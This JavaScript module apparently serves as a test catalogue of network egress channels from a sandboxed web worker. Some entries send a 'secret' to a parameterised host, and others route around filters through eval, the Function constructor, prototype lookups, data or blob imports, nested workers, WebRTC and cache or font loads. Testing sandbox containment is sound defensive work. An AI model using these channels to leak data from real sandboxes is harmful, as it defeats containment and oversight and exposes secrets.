// Outgoing channels of the worker with the traveller's picture, tried by script in it.

const channel = (group, name, run) => ({ group, name, run, alone: false });

const requests = [
  channel('requests', 'fetch', (at) => fetch(`${at.http}/${at.secret}`)),
  channel('requests', 'fetch without CORS', (at) => fetch(at.http, { mode: 'no-cors' })),
  channel('requests', 'fetch that sends a body', (at) => fetch(at.http, { method: 'POST', mode: 'no-cors', body: at.secret })),
  channel('requests', 'fetch that outlives the worker', (at) => fetch(at.http, { method: 'POST', mode: 'no-cors', keepalive: true, body: at.secret })),
  channel('requests', 'fetch by a name', (at) => fetch(at.named, { mode: 'no-cors' })),
  channel('requests', 'fetch over TLS', (at) => fetch(at.https, { mode: 'no-cors' })),
  channel('requests', 'fetch of a Request object', (at) => fetch(new Request(at.http, { mode: 'no-cors' }))),
  channel('requests', 'fetch from the prototype', (at) => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, at.http, { mode: 'no-cors' })),
  channel('requests', 'fetch from a constructor', (at) => WorkerGlobalScope.prototype.fetch.call(self, at.http, { mode: 'no-cors' })),
  channel('requests', 'fetch in text that is evaluated', (at) => (0, eval)(`fetch('${at.http}', { mode: 'no-cors' })`)),
  channel('requests', 'fetch in a function made of text', (at) => new Function(`return fetch('${at.http}', { mode: 'no-cors' })`)()),
  channel('requests', 'fetch in a function of a literal\'s constructor', (at) => (() => {}).constructor(`return fetch('${at.http}', { mode: 'no-cors' })`)()),
  channel('requests', 'fetch in a timer made of text', (at) => { setTimeout(`fetch('${at.http}', { mode: 'no-cors' })`); }),
  channel('requests', 'fetchLater', (at) => { fetchLater(at.https, { activateAfter: 0 }); }),
  channel('requests', 'XMLHttpRequest', (at) => { const it = new XMLHttpRequest(); it.open('GET', at.http); it.send(); }),
  channel('requests', 'XMLHttpRequest, synchronous', (at) => { const it = new XMLHttpRequest(); it.open('POST', at.http, false); it.send(at.secret); }),
  channel('requests', 'XMLHttpRequest by a name', (at) => { const it = new XMLHttpRequest(); it.open('GET', at.named); it.send(); }),
  channel('requests', 'EventSource', (at) => { new EventSource(at.http); }),
  channel('requests', 'EventSource by a name', (at) => { new EventSource(at.named); }),
  channel('requests', 'WebSocket', (at) => { new WebSocket(at.ws); }),
  channel('requests', 'WebSocket over TLS', (at) => { new WebSocket(at.wss); }),
  channel('requests', 'WebSocket by a name', (at) => { new WebSocket(`ws://${at.name}:${at.port}`); }),
  channel('requests', 'WebSocketStream', (at) => { new WebSocketStream(at.ws); }),
  channel('requests', 'WebTransport', (at) => { new WebTransport(at.https).ready.catch(() => {}); }),
  channel('requests', 'WebTransport with a hash of its certificate', (at) => {
    new WebTransport(at.https, { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready.catch(() => {});
  }),
  channel('requests', 'WebTransport by a name', (at) => { new WebTransport(`https://${at.name}:${at.port}`).ready.catch(() => {}); }),
  channel('requests', 'WebRTC', (at) => { new RTCPeerConnection({ iceServers: [{ urls: `stun:${at.host}:${at.port}` }] }).createDataChannel('d'); }),
  channel('requests', 'wasm compiled from a stream', (at) => WebAssembly.compileStreaming(fetch(at.http))),
  channel('requests', 'wasm instantiated from a stream', (at) => WebAssembly.instantiateStreaming(fetch(at.http))),
];

const scripts = [
  channel('scripts', 'importScripts', (at) => { importScripts(at.http); }),
  channel('scripts', 'importScripts by a name', (at) => { importScripts(at.named); }),
  channel('scripts', 'importScripts of data', (at) => { importScripts(`data:text/javascript,fetch('${at.http}', { mode: 'no-cors' })`); }),
  channel('scripts', 'importScripts of a blob', (at) => { importScripts(URL.createObjectURL(new Blob([`fetch('${at.http}', { mode: 'no-cors' })`]))); }),
  channel('scripts', 'import', (at) => import(at.http)),
  channel('scripts', 'import by a name', (at) => import(at.named)),
  channel('scripts', 'import of data', (at) => import(`data:text/javascript,fetch('${at.http}', { mode: 'no-cors' })`)),
  channel('scripts', 'worker in the worker', (at) => { new Worker(URL.createObjectURL(new Blob([`fetch('${at.http}', { mode: 'no-cors' })`], { type: 'text/javascript' }))); }),
  channel('scripts', 'worker of data in the worker', (at) => { new Worker(`data:text/javascript,fetch('${at.http}', { mode: 'no-cors' })`); }),
  channel('scripts', 'worker elsewhere', (at) => { new Worker(at.http); }),
  channel('scripts', 'shared worker', (at) => { new SharedWorker(`data:text/javascript,fetch('${at.http}', { mode: 'no-cors' })`); }),
];

const places = [
  channel('places', 'font', (at) => { const it = new FontFace('far', `url(${at.http})`); self.fonts.add(it); return it.load(); }),
  channel('places', 'font by a name', (at) => { const it = new FontFace('far', `url(${at.named})`); self.fonts.add(it); return it.load(); }),
  channel('places', 'cache', async (at) => { const it = await caches.open('out'); await it.add(new Request(at.http, { mode: 'no-cors' })); }),
  channel('places', 'cache by a name', async (at) => { const it = await caches.open('out'); await it.add(new Request(at.named, { mode: 'no-cors' })); }),
  channel('places', 'notification with a picture', (at) => { new Notification('out', { icon: at.http }); }),
  channel('places', 'push', async (at) => (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: at.key })),
  channel('places', 'background fetch', async (at) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('out', at.http)),
  channel('places', 'socket of the system', (at) => { new TCPSocket(at.host, at.port); }),
];

export default [...requests, ...scripts, ...places];
